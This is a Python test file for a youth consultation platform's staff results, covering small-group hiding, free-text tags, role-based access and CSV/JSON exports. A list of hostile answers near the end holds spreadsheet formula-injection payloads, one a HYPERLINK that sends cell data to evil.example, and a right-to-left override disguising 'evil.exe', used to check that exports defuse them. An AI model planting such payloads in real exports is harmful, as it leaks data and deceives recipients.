"""Results for staff: small groups hidden, free text tagged, exports that match the answers."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select
from sqlalchemy.orm import selectinload

from consultations import services
from consultations.db import db
from consultations.models import Answer, Consultation, QuestionKind
from consultations.staff_models import AuditEntry, Role, Tag
from tests.helpers import assert_safe_in_any_spreadsheet, make_consultation, now
from tests.staff.support import make_user, post, sign_in, text_of

KEY = b"test-pseudonym-key"


def _answer(
    c: Consultation, uid: str, *, band: str | None, option: int, text: str | None = None
) -> None:
    person = services.participant_for("telegram", uid, key=KEY)
    services.update_profile(person, age_band=band, area="ST4")
    single, _multi, scale, free = c.questions
    answers = [
        services.AnswerInput(single.id, option_ids=[single.options[option].id]),
        services.AnswerInput(scale.id, value=option + 2),
    ]
    if text:
        answers.append(services.AnswerInput(free.id, text=text))
    services.submit_answers(c, person, answers, channel="telegram", now=now())
    db.session.commit()


def test_groups_under_five_people_are_hidden_and_said_so(client):
    sign_in(client, make_user(Role.FORUM_MEMBER))
    c = make_consultation()
    for n in range(5):
        _answer(c, f"a{n}", band="14-15", option=0)
    for n in range(4):
        _answer(c, f"b{n}", band="16-17", option=1)
    # With two groups, showing the five would give the four away: the totals minus five.
    text = text_of(client.get(f"/staff/consultations/{c.id}/results?by=age_band"))
    assert "14 to 15" not in text and "16 to 17" not in text
    assert "No group is shown, so that nobody can be picked out." in text

    for n in range(6):
        _answer(c, f"c{n}", band="18-21", option=2)
    text = text_of(client.get(f"/staff/consultations/{c.id}/results?by=age_band"))
    assert "18 to 21 6 0 (0.0%) 0 (0.0%) 6 (100.0%)" in text
    assert "14 to 15" not in text and "16 to 17" not in text
    assert (
        "2 groups are not shown so that nobody can be picked out. Together they are 9 people."
        in (text)
    )

    _answer(c, "b4", band="16-17", option=1)
    text = text_of(client.get(f"/staff/consultations/{c.id}/results?by=age_band"))
    assert "14 to 15 5 5 (100.0%)" in text
    assert "16 to 17 5 0 (0.0%) 5 (100.0%)" in text
    assert "not shown" not in text


def test_threshold_is_configurable(app, client):
    app.config["SMALL_GROUP_THRESHOLD"] = 2
    sign_in(client, make_user(Role.OFFICER))
    c = make_consultation()
    _answer(c, "x1", band="11-13", option=0)
    _answer(c, "x2", band="11-13", option=0)
    text = text_of(client.get(f"/staff/consultations/{c.id}/results?by=channel"))
    assert "telegram 2" in text


def test_results_page_has_svg_charts_with_tables_beside_them_and_a_trend(client):
    sign_in(client, make_user(Role.YOUTH_WORKER))
    c = make_consultation()
    _answer(c, "1", band=None, option=2)
    page = client.get(f"/staff/consultations/{c.id}/results")
    html = page.get_data(as_text=True)
    assert html.count('<svg class="chart"') == 4  # three questions with options, and the trend
    assert '<table class="counts">' in html
    text = text_of(page)
    assert "Saturday 1 100.0%" in text
    assert "People taking part over time" in text and "People who first answered" in text
    assert "Written answers are shown to officers only." in text
    assert "Export CSV" not in text


def test_free_text_search_filter_and_tags_with_counts(client):
    sign_in(client, make_user(Role.OFFICER))
    c = make_consultation()
    _answer(c, "1", band=None, option=0, text="More buses at night please")
    _answer(c, "2", band=None, option=0, text="Cheaper buses")
    _answer(c, "3", band=None, option=0, text="A skate park")
    free = c.questions[3]
    url = f"/staff/questions/{free.id}/answers"
    assert "3 answers shown" in text_of(client.get(url))
    assert "2 answers shown" in text_of(client.get(url + "?q=BUSES"))

    ids = {
        a.text: a.id
        for a in db.session.scalars(select(Answer).where(Answer.question_id == free.id))
    }
    for text in ("More buses at night please", "Cheaper buses"):
        response = post(
            client,
            f"/staff/answers/{ids[text]}/tags",
            {"name": "Transport", "question_id": free.id},
        )
        assert response.status_code == 303
    post(
        client,
        f"/staff/answers/{ids['A skate park']}/tags",
        {"name": "Places", "question_id": free.id},
    )
    page = text_of(client.get(url))
    assert "Transport 2" in page and "Places 1" in page
    transport = db.session.scalar(select(Tag).where(Tag.name == "Transport"))
    by_tag = text_of(client.get(url + f"?tag={transport.id}"))
    assert "2 answers shown" in by_tag and "A skate park" not in by_tag
    assert "0 answers shown" in text_of(client.get(url + "?tag=untagged"))


def test_forum_members_cannot_read_free_text(client):
    sign_in(client, make_user(Role.FORUM_MEMBER))
    c = make_consultation()
    assert client.get(f"/staff/questions/{c.questions[3].id}/answers").status_code == 403
    assert client.get(f"/staff/consultations/{c.id}/export.csv").status_code == 403


def test_csv_export_matches_the_stored_answers_row_for_row(client):
    officer = make_user(Role.OFFICER)
    sign_in(client, officer)
    c = make_consultation()
    _answer(c, "1", band="14-15", option=0, text='=HYPERLINK("x") says hi')
    _answer(c, "2", band=None, option=2)
    _single, multi, _scale, _free = c.questions
    person = services.participant_for("telegram", "2", key=KEY)
    services.submit_answers(
        c,
        person,
        [services.AnswerInput(multi.id, option_ids=[multi.options[0].id, multi.options[2].id])],
        channel="telegram",
        now=now(),
    )
    db.session.commit()

    response = client.get(f"/staff/consultations/{c.id}/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    stored = list(
        db.session.scalars(
            select(Answer)
            .join(Answer.question)
            .where(Answer.question_id.in_([q.id for q in c.questions]))
            .options(selectinload(Answer.choices))
        )
    )
    assert len(rows) == len(stored) == 6
    labels = {o.id: o.label for q in c.questions for o in q.options}
    expected = set()
    for a in stored:
        if a.question.kind is QuestionKind.SCALE:
            given = str(a.scale_value)
        elif a.question.kind is QuestionKind.FREE_TEXT:
            given = "'" + a.text  # a formula-looking cell is defused
        else:
            given = "; ".join(labels[o] for o in a.option_ids)
        expected.add((a.question.prompt, given, a.channel, a.updated_at.isoformat()))
    assert {(r["question"], r["answer"], r["channel"], r["answered_at"]) for r in rows} == expected
    assert {r["respondent"] for r in rows} == {"R0001", "R0002"}
    pseudonyms = set(db.session.scalars(select(services.Participant.pseudonym)))
    assert not any(p[:8] in response.get_data(as_text=True) for p in pseudonyms)

    as_json = client.get(f"/staff/consultations/{c.id}/export.json").json
    assert len(as_json["answers"]) == 6
    actions = list(
        db.session.scalars(select(AuditEntry.detail).where(AuditEntry.action == "exported"))
    )
    assert actions == ["csv", "json"]


def test_a_drafts_results_are_not_found_for_anyone_but_its_writers(app):
    draft = make_consultation(open_it=False)
    prompt = draft.questions[0].prompt
    url = f"/staff/consultations/{draft.id}/results"
    for role in (Role.YOUTH_WORKER, Role.FORUM_MEMBER, Role.SAFEGUARDING_LEAD):
        client = app.test_client()
        sign_in(client, make_user(role))
        response = client.get(url)
        assert response.status_code == 404, role
        assert prompt not in response.get_data(as_text=True), role
        assert draft.youth_title not in response.get_data(as_text=True), role
    for role in (Role.OFFICER, Role.ADMIN):
        client = app.test_client()
        sign_in(client, make_user(role))
        assert prompt in text_of(client.get(url)), role


def test_the_front_page_lists_drafts_only_for_writers_and_youth_workers(app):
    draft = make_consultation(open_it=False)
    live = make_consultation()
    seen = {}
    for role in (Role.OFFICER, Role.YOUTH_WORKER, Role.FORUM_MEMBER, Role.SAFEGUARDING_LEAD):
        client = app.test_client()
        sign_in(client, make_user(role))
        html = client.get("/staff/").get_data(as_text=True)
        assert live.youth_title in html, role
        seen[role] = (draft.youth_title in html, f"/consultations/{draft.id}/results" in html)
    assert seen == {
        Role.OFFICER: (True, True),
        Role.YOUTH_WORKER: (True, False),  # listed for its access codes, never its results
        Role.FORUM_MEMBER: (False, False),
        Role.SAFEGUARDING_LEAD: (False, False),
    }


HOSTILE_ANSWERS = [
    'ok;=HYPERLINK("http://evil.example/?"&A1, "click")',
    "fine, +SUM(A1:A9)",
    "line one\n-2+3",
    "  =1+1",
    "\u202eevil.exe\u2066 reversed",
]


def test_a_csv_export_runs_no_formula_in_any_spreadsheet_and_hides_nothing(client):
    sign_in(client, make_user(Role.OFFICER))
    c = make_consultation()
    for n, text in enumerate(HOSTILE_ANSWERS):
        _answer(c, f"h{n}", band=None, option=0, text=text)
    exported = client.get(f"/staff/consultations/{c.id}/export.csv").get_data(as_text=True)
    assert_safe_in_any_spreadsheet(exported)
    answers = {r["answer"] for r in csv.DictReader(io.StringIO(exported))}
    # Officers still read what was written: a mark before each formula, the overrides gone.
    assert 'ok;\'=HYPERLINK("http://evil.example/?"&A1, "click")' in answers
    assert "fine,' +SUM(A1:A9)" in answers and "line one\n'-2+3" in answers
    assert "'=1+1" in answers and "evil.exe reversed" in answers


def test_a_scale_shows_its_end_labels_and_average_and_every_figure_counts_people(client):
    sign_in(client, make_user(Role.OFFICER))
    c = make_consultation()
    for uid, option in (("1", 0), ("2", 1), ("3", 1), ("4", 2)):  # scale values 2, 3, 3, 4
        _answer(c, uid, band=None, option=option)
    page = client.get(f"/staff/consultations/{c.id}/results")
    text = text_of(page)
    assert "Average score 3.0 out of 5 (1 is “Not at all”, 5 is “A lot”)." in text
    assert "1 – Not at all 0 0.0%" in text and "5 – A lot 0 0.0%" in text
    assert "4 people answered" in text and "4 answers" not in text
    # The day-by-day figures are people too, so they add up to who took part.
    assert "People who first answered" in text
    assert text.endswith("People who first answered " + now().strftime("%-d %B %Y") + " 4")
